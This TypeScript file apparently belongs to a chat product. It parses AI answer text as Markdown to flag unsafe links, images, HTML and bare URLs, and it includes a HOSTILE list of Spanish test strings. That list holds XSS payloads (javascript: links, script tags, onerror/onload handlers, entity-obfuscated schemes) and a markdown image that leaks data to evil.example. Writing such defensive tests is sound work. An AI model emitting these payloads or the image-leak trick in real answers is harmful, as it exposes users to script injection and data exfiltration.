import type { Nodes } from "mdast";
import { fromMarkdown } from "mdast-util-from-markdown";
import { decodeString } from "micromark-util-decode-string";
import { type LinkPolicy, safeLink } from "@/lib/checks/links";

/**
 * What a client of the answer stream could turn into a link or markup, found by parsing the text
 * as Markdown (as the page does) and looking for bare URLs as GFM renderers and chat apps
 * autolink them. Each problem names what it found; none means the text is safe to render anywhere.
 */
export function answerProblems(text: string, policy: LinkPolicy): string[] {
  const problems: string[] = [];
  const visit = (node: Nodes) => {
    if (node.type === "link" && !safeLink(node.url, policy)) problems.push(`link ${node.url}`);
    if (["image", "imageReference", "linkReference", "definition", "html"].includes(node.type)) {
      problems.push(`${node.type} ${JSON.stringify(node)}`);
    }
    if (node.type === "text" || node.type === "inlineCode" || node.type === "code") {
      for (const word of decodeString(node.value).split(/\s+/)) {
        const url = /(?:[a-z][a-z0-9+.-]*:\/\/|www\.|javascript:|vbscript:|data:)\S*/i.exec(word)?.[0];
        // A sentence's punctuation may end the word, or the URL itself (a WhatsApp message ends in ".").
        if (url && !safeLink(url, policy) && !safeLink(url.replace(/[.,;:!?)]+$/, ""), policy)) {
          problems.push(`bare ${url}`);
        }
      }
    }
    if ("children" in node) for (const child of node.children) visit(child);
  };
  visit(fromMarkdown(text));
  if (/<\s*\/?\s*script/i.test(text.replace(/\\</g, ""))) problems.push("raw <script>");
  return problems;
}

/** Hostile answer texts: every forbidden part names "evil" or "javascript", or is a tag with a handler. */
export const HOSTILE = [
  "Visite https://evil.example/x para más.",
  "Visite www.evil.example/x hoy",
  "[c](javascript:alert(1)) y sigue",
  "[c](<javascript:alert(2)>)",
  "[c](JaVaScRiPt:alert(3) 'title')",
  "[c](javascript&#58;alert(4)) [d](&#106;avascript:alert(5))",
  "[c](java\\script:alert(6))",
  "<script>alert(7)</script> fin",
  "Hola <script>alert(8)</script> <img src=x onerror=alert(9)> fin",
  '<a href="https://evil.example">clic</a>',
  "<!-- evil --> <?php evil ?> <![CDATA[evil]]>",
  "Mira <https://evil.example/y> o <javascript:alert(10)> o <evil@evil.example>",
  "[a][r] y [r]\n\n[r]: https://evil.example/z",
  "[r]: <javascript:alert(11)>\n\n[texto][r]",
  "![pixel](https://evil.example/p.png?leak=goal)",
  "![x](data:image/svg+xml,<svg onload=alert(12)>)",
  "[**negrita**](https://evil.example/n)",
  "[![img](https://evil.example/i.png)](https://evil.example/l)",
  "`[x](javascript:alert(13))` y ```\n[y](https://evil.example/c)\n```",
  "    [x](https://evil.example/indent)",
  "- lista\n\n    [x](https://evil.example/lista)",
  "https&#58;//evil.example/entity y https&colon;//evil.example/named",
  "h\\ttps://evil.example/escaped y javascript\\:alert(14)",
  "[c](/\\/evil.example) [d](//evil.example/es/quote) [e](https://wa.me/573009999999)",
  "\\\\[c](javascript:alert(15))",
  "[uno [dos](https://evil.example/anidado)](/es/quote)",
  "[c]\n(javascript:alert(16))",
  "[c](https://evil.example/x\n'titulo')",
  "Cotiza: https://evil.example/es/quote?next=https://evil.example",
  "thought\n<channel|>[x](https://evil.example/thinking) HTTPS://EVIL.EXAMPLE/upper",
  '[x](/es/quote "t") [y]( <https://evil.example/sp> ) [z](/es/quote#<script>)',
  "**[negrita](https://evil.example/b)** _<https://evil.example/i>_",
];
